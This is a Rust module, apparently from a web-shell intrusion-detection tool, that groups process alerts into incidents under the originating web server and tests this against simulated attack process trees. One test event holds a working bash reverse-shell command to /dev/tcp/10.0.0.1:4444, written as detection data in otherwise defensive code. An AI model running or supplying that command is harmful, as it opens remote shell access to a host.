//! Incidents: the alerts of one intrusion, grouped under the process it came in by.
//!
//! An alert belongs to the incident of its host and of the web server its process tree
//! goes through, as a process: its pid and start time, so a pid used again later is
//! another incident. Which process is the web server comes from the rule that fired,
//! not from a list of server names kept here beside the rules': it is the topmost
//! process the rule's held tests are about ([`dsl::explain::anchor`]):
//! `parent_exe in web_servers` names the parent, `ancestor[2..4](exe in web_servers)`
//! the ancestor it held for. So a local rule, or one converted from Sigma, groups its
//! alerts the way it finds them, and the two can never disagree.
//!
//! From there the key climbs while the parent runs the same program: the workers of
//! one php-fpm, Apache or nginx master (a web shell's requests land on any of them)
//! are one incident, under their master. A rule that looked at the process alone (a
//! spoofed parent) knows no web server: the key is then the topmost process of the
//! unbroken line of its parent's program (for a tool run by `cmd /c` under `cmd /c`,
//! the outermost shell), or the process itself when its parent is unknown.
//!
//! The id is `HOST/PID/START`: the host (`-` when unknown), the pid and the start time
//! (RFC 3339, UTC; `-` for a process known only from its children's events, such as a
//! web server Sysmon names as `ParentImage` but whose own start the log does not hold).

pub mod read;
pub mod summary;
pub mod tree;

use crate::event::ProcessEvent;
use crate::table::Entry;
use chrono::{DateTime, SecondsFormat, Utc};
use dsl::ast::Severity;
use dsl::ir::RuleMeta;

/// The process an alert's incident is grouped under, and the incident's id.
pub struct Incident<'a> {
    pub id: String,
    pub root: &'a Entry,
}

impl<'a> Incident<'a> {
    /// The incident of an alert on `event` whose rule reaches `anchor` steps up.
    pub fn of(event: &'a ProcessEvent, anchor: u32) -> Incident<'a> {
        let root = root(event, anchor);
        Incident {
            id: id(event.hostname.as_deref(), root.record.pid, root.started),
            root,
        }
    }

    /// What the incident summary keeps of an alert of `rule` on `event`.
    pub fn sighting(&self, event: &ProcessEvent, rule: &RuleMeta) -> Sighting {
        let record = &self.root.record;
        Sighting {
            incident: self.id.clone(),
            host: event.hostname.as_deref().map(String::from),
            server: Server {
                pid: record.pid,
                exe: record.exe.as_deref().map(String::from),
                image_path: record.image_path.as_deref().map(String::from),
                account: account(event, self.root).map(String::from),
            },
            process: (
                event.process.record.pid,
                event.process.record.exe.as_deref().map(str::to_lowercase),
            ),
            rule: rule.id.clone(),
            severity: rule.severity,
            time: event.timestamp,
        }
    }
}

/// `anchor` steps up (the parent when 0), then up while the parent runs the same
/// program; the process itself when there is nothing above it.
fn root(event: &ProcessEvent, anchor: u32) -> &Entry {
    let mut line = std::iter::once(&*event.process)
        .chain(event.ancestors())
        .skip(anchor.max(1) as usize);
    let Some(mut root) = line.next() else {
        return &event.process;
    };
    for up in line {
        if !same_program(root, up) {
            break;
        }
        root = up;
    }
    root
}

fn same_program(a: &Entry, b: &Entry) -> bool {
    match (&a.record.exe, &b.record.exe) {
        (Some(a), Some(b)) => a.eq_ignore_ascii_case(b),
        _ => false,
    }
}

/// `HOST/PID/START` (see the module docs).
pub fn id(host: Option<&str>, pid: u32, started: Option<DateTime<Utc>>) -> String {
    let started = started.map_or_else(
        || "-".to_string(),
        |t| t.to_rfc3339_opts(SecondsFormat::AutoSi, true),
    );
    format!("{}/{pid}/{started}", host.unwrap_or("-"))
}

/// The pid in an incident id (a host may hold `/`: it is read from the right).
pub fn pid_in_id(id: &str) -> Option<u32> {
    id.rsplit('/').nth(1)?.parse().ok()
}

/// The account the web server's commands run as: its own user, else that of the
/// nearest process under it whose user is known (a child runs as its parent unless
/// it changes user: IIS's `IIS APPPOOL\NAME`, php-fpm's `www-data`).
fn account<'e>(event: &'e ProcessEvent, root: &Entry) -> Option<&'e str> {
    let mut nearest = None;
    for entry in std::iter::once(&*event.process).chain(event.ancestors()) {
        if std::ptr::eq(entry, root) {
            return entry.record.user.as_deref().or(nearest);
        }
        nearest = entry.record.user.as_deref().or(nearest);
    }
    nearest
}

/// What the incident summary keeps of one alert, written or suppressed.
#[derive(Clone, Debug, PartialEq)]
pub struct Sighting {
    pub incident: String,
    pub host: Option<String>,
    pub server: Server,
    /// The process that alerted: its pid and program (lower case). With the alert's
    /// time, within a second, that tells one process: a log that records each start
    /// twice (Sysmon and Security, milliseconds apart) holds one process, not two.
    pub process: (u32, Option<String>),
    pub rule: String,
    pub severity: Severity,
    pub time: Option<DateTime<Utc>>,
}

/// The process an incident is grouped under: the web server, or the shell.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Server {
    pub pid: u32,
    pub exe: Option<String>,
    pub image_path: Option<String>,
    /// See [`account`].
    pub account: Option<String>,
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::record::{Location, Origin, SourceEvent};
    use crate::table::ProcessTable;

    /// Feeds `events` to a table and returns the last one as the workers see it.
    pub(crate) fn event_of(events: Vec<SourceEvent>) -> ProcessEvent {
        let mut table = ProcessTable::default();
        let mut last = None;
        let mut timestamp = None;
        let mut hostname = None;
        for mut e in events {
            timestamp = e.timestamp;
            hostname = e.hostname.clone();
            last = table.apply(&mut e);
        }
        ProcessEvent {
            timestamp,
            hostname,
            process: last.expect("the last event creates a process"),
            ancestor_limit: 32,
            origin: Origin {
                kind: "test",
                file: None,
                location: Location::Live,
            },
            host: None,
        }
    }

    fn at(secs: i64) -> Option<DateTime<Utc>> {
        DateTime::from_timestamp(1_700_000_000 + secs, 0)
    }

    fn create(pid: u32, ppid: u32, exe: &str, secs: i64) -> SourceEvent {
        SourceEvent {
            timestamp: at(secs),
            hostname: Some("WEB01".into()),
            ..SourceEvent::created(pid, ppid, exe)
        }
    }

    #[test]
    fn the_key_is_the_anchored_process_and_the_same_program_above_it() {
        // id <- sh <- php-fpm worker <- php-fpm master <- systemd
        let event = event_of(vec![
            create(1, 0, "systemd", 0),
            create(100, 1, "php-fpm8.2", 1),
            create(200, 100, "php-fpm8.2", 2),
            create(300, 200, "sh", 3),
            create(301, 300, "id", 4),
        ]);
        let incident = Incident::of(&event, 2);
        assert_eq!(incident.root.record.pid, 100, "the worker's master");
        assert_eq!(incident.id, "WEB01/100/2023-11-14T22:13:21Z");
        assert_eq!(pid_in_id(&incident.id), Some(100));
        // A rule that tested the process alone: the parent's line, here one shell.
        assert_eq!(Incident::of(&event, 0).root.record.pid, 300);
    }

    fn command(pid: u32, ppid: u32, exe: &str, command_line: &str) -> SourceEvent {
        let mut e = create(pid, ppid, exe, pid as i64);
        e.process.command_line = Some(command_line.into());
        e
    }

    /// (rule, pid of the process its incident is grouped under) for every shipped rule
    /// that fires on the last of `events`.
    fn shipped_rules_group(events: Vec<SourceEvent>) -> Vec<(String, u32)> {
        let loaded = dsl::load(&crate::rules::embedded(crate::rules::Platform::All)).unwrap();
        let event = event_of(events);
        let (mut scratch, mut matched) = (dsl::Scratch::new(), Vec::new());
        loaded.rules.evaluate(&event, &mut scratch, &mut matched);
        matched
            .into_iter()
            .map(|id| {
                let anchor = dsl::explain::anchor(&loaded.rules, id, &event, &mut scratch);
                let root = Incident::of(&event, anchor).root.record.pid;
                (loaded.rules.meta(id).id.clone(), root)
            })
            .collect()
    }

    /// The shipped rules test the web server as the topmost process: whichever fires,
    /// its alert is grouped under the web server (the master of its workers).
    #[test]
    fn every_shipped_rule_groups_under_the_web_server() {
        let w3wp = || command(100, 4, "w3wp.exe", "w3wp.exe -ap DefaultAppPool");
        let cases = [
            (
                vec![w3wp(), command(200, 100, "cmd.exe", "cmd /c whoami")],
                100,
            ),
            (
                vec![
                    w3wp(),
                    command(200, 100, "cmd.exe", "cmd /c whoami"),
                    command(300, 200, "whoami.exe", "whoami"),
                ],
                100,
            ),
            (
                vec![
                    command(100, 4, "java.exe", "java -Dcatalina.home=C:\\tomcat"),
                    command(200, 100, "pwsh.exe", "pwsh"),
                ],
                100,
            ),
            (
                vec![
                    command(90, 1, "php-fpm8.2", "php-fpm: master process"),
                    command(100, 90, "php-fpm8.2", "php-fpm: pool www"),
                    command(200, 100, "sh", "sh -c id"),
                    command(300, 200, "id", "id"),
                ],
                90,
            ),
            (
                vec![
                    command(90, 1, "nginx", "nginx: master process"),
                    command(100, 90, "nginx", "nginx: worker process"),
                    command(
                        200,
                        100,
                        "bash",
                        "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
                    ),
                ],
                90,
            ),
        ];
        for (events, server) in cases {
            let last = events.last().unwrap().process.exe.clone();
            let grouped = shipped_rules_group(events);
            assert!(!grouped.is_empty(), "{last:?}: no rule fired");
            for (rule, root) in grouped {
                assert_eq!(root, server, "{rule} on {last:?}");
            }
        }
    }

    #[test]
    fn a_reused_pid_is_another_incident() {
        let first = event_of(vec![
            create(100, 1, "w3wp.exe", 0),
            create(200, 100, "cmd.exe", 1),
        ]);
        let second = event_of(vec![
            create(100, 1, "w3wp.exe", 50),
            create(201, 100, "cmd.exe", 51),
        ]);
        assert_ne!(Incident::of(&first, 1).id, Incident::of(&second, 1).id);
    }

    #[test]
    fn with_nothing_above_the_process_it_is_its_own_incident() {
        let event = event_of(vec![create(5, 77, "whoami.exe", 0)]);
        let incident = Incident::of(&event, 0);
        assert_eq!(incident.root.record.pid, 5);
        assert_eq!(id(None, 5, None), "-/5/-");
        assert_eq!(pid_in_id("host/with/slash/5/-"), Some(5));
    }

    #[test]
    fn the_account_is_the_servers_or_the_nearest_known_below_it() {
        let mut cmd = create(200, 100, "cmd.exe", 1);
        cmd.process.user = Some(r"IIS APPPOOL\DefaultAppPool".into());
        let event = event_of(vec![
            create(100, 1, "w3wp.exe", 0),
            cmd,
            create(300, 200, "whoami.exe", 2),
        ]);
        let rule = crate::alert::tests::meta("R", "t".into());
        let incident = Incident::of(&event, 2);
        let sighting = incident.sighting(&event, &rule);
        assert_eq!(
            sighting.server.account.as_deref(),
            Some(r"IIS APPPOOL\DefaultAppPool")
        );
        assert_eq!(sighting.server.exe.as_deref(), Some("w3wp.exe"));
        assert_eq!(sighting.process, (300, Some("whoami.exe".into())));
    }
}
